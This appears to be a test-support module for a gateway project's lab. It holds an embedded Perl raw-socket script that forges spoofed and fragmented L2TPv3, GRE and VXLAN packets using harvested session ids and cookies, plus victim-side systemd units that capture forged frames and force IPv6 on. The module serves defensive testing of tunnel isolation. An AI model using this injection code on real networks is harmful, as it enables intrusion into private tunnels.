"""An attacker on the underlay of two gateways who never rests, while tunnels come, are replaced and hosts boot.

It runs on one gateway, sends past that one's firewall, and uses what only that gateway could know: ids and cookies of
its L2TPv3 sessions. On the attacked one a service listens from the start of the system on and notes every forged
frame that comes out of any interface; another one has the underlay's interface take IPv6, and the kernel L2TPv3 over
it. No code of the program's own injection test is used.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass

from app.domain.adapters import shell_step_argv
from app.domain.cancel import CancelToken
from app.domain.commands import Command, HostSession
from support.lab_sessions import sh
from support.waiting import wait_until

MARK = "@forged@"
_UNIT = "/etc/systemd/system/forged-listener.service"
_NO_IPV6 = "/proc/sys/net/ipv6/conf/eth1/disable_ipv6"
_IPV6_UNIT = "/etc/systemd/system/forged-ipv6.service"

# Notes what comes out of any interface: the frames inside have an EtherType that no packet of the underlay has.
_LISTEN = f"""
mkdir -p /run/forged-times
for folder in system system/sysinit.target.wants; do
    touch -r "/etc/systemd/$folder" "/run/forged-times/$(basename "$folder")"
done
cat > {_UNIT} <<'END'
[Unit]
DefaultDependencies=no
After=systemd-remount-fs.service
Before=network-pre.target
[Service]
ExecStart=/bin/sh -c 'exec tcpdump --immediate-mode -U -n -i any -w "/run/forged.pcap" "ether proto 0x88b6"'
[Install]
WantedBy=sysinit.target
END
cat > {_IPV6_UNIT} <<'END'
[Unit]
DefaultDependencies=no
After=systemd-remount-fs.service
[Service]
ExecStartPre=-/sbin/modprobe l2tp_ip6
ExecStart=/bin/sh -c 'while :; do if grep -qs 1 {_NO_IPV6}; then echo 0 > {_NO_IPV6}; fi; sleep 0.3; done'
[Install]
WantedBy=sysinit.target
END
echo "# before: $(cat {_NO_IPV6})" >> {_IPV6_UNIT}
systemctl daemon-reload
systemctl enable -q --now forged-listener.service forged-ipv6.service
sync
n=0
until [ -e /run/forged.pcap ]; do
    n=$((n + 1))
    if [ "$n" -gt 1200 ]; then systemctl status forged-listener.service >&2; exit 1; fi
    sleep 0.1
done
"""
_NO_LISTENER = f"""
systemctl disable -q --now forged-listener.service forged-ipv6.service 2> /dev/null
sed -n 's/^# before: //p' {_IPV6_UNIT} > {_NO_IPV6}
rm -f {_UNIT} {_IPV6_UNIT} /run/forged.pcap
modprobe -q -r l2tp_ip6
for folder in system system/sysinit.target.wants; do
    old="/run/forged-times/$(basename "$folder")"
    if [ -e "$old" ]; then touch -r "$old" "/etc/systemd/$folder"; fi
done
rm -rf /run/forged-times
systemctl daemon-reload
"""
_SEEN = f"""
systemctl is-active forged-listener.service
grep -a -o '{MARK}[a-z0-9, ]*@' /run/forged.pcap | sort | uniq -c
"""

# $1 interface, $2 own underlay address, $3 that of the attacked host. Every session that it ever had is used.
_SEND = r"""
rm -f /run/forging.sent
setsid perl -MSocket -e '
    my ($device, $own, $victim) = @ARGV;
    my $stranger = $own =~ s/\d+$/77/r;
    my $mac = "f" x 12;  # to all, until it is known
    socket(S, 17, SOCK_RAW, 0) or die "socket: $!\n";
    open(F, "<", "/sys/class/net/$device/ifindex") or die "$device: $!\n";
    my $where = pack("S n l S C C a8", 17, 0x0800, scalar(<F>), 1, 0, 6, "");
    sub sum { my $n = 0; $n += $_ for unpack("n*", $_[0]); $n = ($n >> 16) + ($n & 65535) while $n >> 16; ~$n & 65535 }
    sub packet {
        my ($source, $protocol, $options, $content, $id, $offset) = @_;
        my $words = 5 + length($options) / 4;
        my @head = (64 + $words, 0, 4 * $words + length($content), $id // 0, $offset // 0, 64, $protocol, 0);
        my $head = pack("C C n n n C C n a4 a4", @head,
            inet_aton($source), inet_aton($victim)) . $options;
        substr($head, 10, 2) = pack("n", sum($head));
        return pack("H12 H12 n", $mac, "020000000077", 0x0800) . $head . $content;
    }
    sub pieces {
        my ($source, $protocol, $content) = @_;
        $pieces = ($pieces + 1) % 65536;
        return packet($source, $protocol, "", substr($content, 0, 48), $pieces, 0x2000),
            packet($source, $protocol, "", substr($content, 48), $pieces, 48 / 8);
    }
    sub packet6 {
        my ($protocol, $content) = @_;
        my $head = pack("N n C C", 6 << 28, length($content), $protocol, 64);
        my $to = Socket::inet_pton(AF_INET6, "fe80::77") . Socket::inet_pton(AF_INET6, "ff02::1");
        return pack("H12 H12 n", $mac, "020000000077", 0x86dd) . $head . $to . $content;
    }
    sub udp6 {
        my ($port, $content) = @_;
        my $length = 8 + length($content);
        my $to = Socket::inet_pton(AF_INET6, "fe80::77") . Socket::inet_pton(AF_INET6, "ff02::1");
        my $even = pack("n n n n", $port, $port, $length, 0) . $content . ($length % 2 ? "\0" : "");
        return pack("n n n n", $port, $port, $length, sum($to . pack("N N", $length, 17) . $even) || 65535) . $content;
    }
    sub inside { return pack("H12 H12 n", "ffffffffffff", "020000000077", 0x88b6) . ("\@forged\@" . $_[0] . "\@") x 3 }
    sub udp { my ($port, $content) = @_; return pack("n n n n", $port, $port, 8 + length($content), 0) . $content }
    my (%cookies, %keys, %networks, $sent, $round);
    our $pieces = 0;
    while (1) {
        if ($round++ % 10 == 0) {
            $mac = $1 =~ s/://gr if `ip neigh show $victim dev $device` =~ /lladdr ([0-9a-f:]{17})/;
            my $id;
            for (`ip l2tp show session`) {
                $id = $1, $cookies{$id} //= "" if /^Session (\d+) in tunnel/;
                $cookies{$id} = pack("H*", $1) if defined $id && /^\s*cookie ([0-9a-f]+)/;
            }
            for (`ip -d -o link show type gretap`) { $keys{$1} = 1 if /okey (\S+)/ }
            for (`ip -d -o link show type vxlan`) { $networks{"$1 $2"} = 1 if /vxlan id (\d+) .*dstport (\d+)/ }
        }
        my @frames;
        my @sources = (["peer", $own, ""], ["stranger", $stranger, ""], ["stranger with options", $stranger, "\1" x 4]);
        for my $one (@sources) {
            my ($whose, $source, $options) = @$one;
            for my $id (keys %cookies) {
                for my $cookie ("", $cookies{$id}) {
                    my $kind = "l2tp of $whose, " . length($cookie);
                    my $content = pack("N", $id) . $cookie . pack("N", 0) . inside($kind);
                    push @frames, packet($source, 115, $options, $content);
                }
                my $content = pack("n n N", 3, 0, $id) . $cookies{$id} . pack("N", 0) . inside("l2tp in udp of $whose");
                push @frames, packet($source, 17, $options, udp(1701, $content));
                my $vxlan = pack("N N", 0x08000000, $id << 8 & 0xffffffff) . inside("vxlan of $whose");
                push @frames, packet($source, 17, $options, udp(4789, $vxlan));
            }
            for (keys %keys) {
                my $content = pack("n n", 0x2000, 0x6558) . inet_aton($_) . inside("gre with key of $whose");
                push @frames, packet($source, 47, $options, $content);
            }
            for (keys %networks) {
                my ($id, $port) = split;
                my $content = pack("N N", 0x08000000, $id << 8) . inside("own vxlan of $whose");
                push @frames, packet($source, 17, $options, udp($port, $content));
            }
            push @frames, packet($source, 47, $options, pack("n n", 0, 0x6558) . inside("gre of $whose"));
            push @frames, packet($source, 17, $options, udp($_, inside("udp of $whose"))) for 21194, 21195;
        }
        for my $id (keys %cookies) {
            my $head = pack("N", $id) . $cookies{$id} . pack("N", 0);
            push @frames, pieces($own, 115, $head . inside("l2tp of peer in two pieces"));
            push @frames, packet6(115, $head . inside("l2tp over ipv6"));
            my $padding = pack("C8", 115, 0, 1, 4, 0, 0, 0, 0);
            push @frames, packet6(60, $padding . $head . inside("l2tp over ipv6 behind options"));
        }
        for (keys %keys) {
            my $head = pack("n n", 0x2000, 0x6558) . inet_aton($_);
            push @frames, pieces($own, 47, $head . inside("gre of peer in two pieces"));
            push @frames, packet6(47, $head . inside("gre over ipv6"));
        }
        for (keys %networks) {
            my ($id, $port) = split;
            my $head = pack("N N", 0x08000000, $id << 8);
            push @frames, pieces($own, 17, udp($port, $head . inside("vxlan of peer in two pieces")));
            push @frames, packet6(17, udp6($port, $head . inside("vxlan over ipv6")));
        }
        for (@frames) { $sent++ if defined(send(S, $_, 0, $where)) }
        open(N, ">", "/run/forging.new") or die "/run/forging.new: $!\n";
        print N $sent, " ", keys(%cookies) + keys(%keys) + keys(%networks);
        close(N) && rename("/run/forging.new", "/run/forging.sent");
        select(undef, undef, undef, 0.1);
    }
' "$1" "$2" "$3" > /run/forging.log 2>&1 < /dev/null &
echo $! > /run/forging.pid
"""
_STOP = "kill $(cat /run/forging.pid); rm -f /run/forging.*"


@dataclass
class GatewayAttack:
    """An attack that goes on.

    Attributes:
        attacker: The gateway that sends.
        victim: The gateway that is attacked; it may boot meanwhile.
        addresses: Underlay address of the attacker, and of the victim.
    """

    attacker: HostSession
    victim: HostSession
    addresses: tuple[str, str]

    def send(self) -> None:
        """Begin to send; once more where the attacker has booted since."""
        command = Command(shell_step_argv(_SEND, "eth1", *self.addresses), timeout_s=60.0, is_root=True)
        result = self.attacker.run(command, token=CancelToken())
        assert result.is_ok, result.stderr
        is_sent = "cat /run/forging.sent 2> /dev/null || true"
        wait_until(lambda: sh(self.attacker, is_sent) != "", "a forged packet")

    def sent(self) -> tuple[int, int]:
        """Return how many packets were sent, and at how many sessions, GRE keys and VXLAN networks."""
        words = sh(self.attacker, "cat /run/forging.sent || { cat /run/forging.log >&2; false; }").split()
        return int(words[0]), int(words[1])

    def let_in(self) -> dict[str, int]:
        """Return what came out of the victim's interfaces since it booted: frames by kind."""
        state, *lines = sh(self.victim, _SEEN).splitlines()
        assert state == "active", state
        found = [re.fullmatch(rf"\s*(\d+) {MARK}(.*)@", line) for line in lines]
        return {one[2]: int(one[1]) for one in found if one}

    def wait_for_more(self, packets: int = 200) -> None:
        """Wait until that many more packets were sent."""
        awaited = self.sent()[0] + packets
        wait_until(lambda: self.sent()[0] >= awaited, "more forged packets")


@contextmanager
def attacked(attacker: HostSession, victim: HostSession, addresses: tuple[str, str]) -> Iterator[GatewayAttack]:
    """Attack a gateway in the block; both have to be on at its end.

    Args:
        attacker: The gateway that sends.
        victim: The gateway that is attacked.
        addresses: Underlay address of the attacker, and of the victim.
    """
    attack = GatewayAttack(attacker, victim, addresses)
    try:
        sh(victim, _LISTEN)
        attack.send()
        yield attack
    finally:
        sh(attacker, _STOP)
        sh(victim, _NO_LISTENER)
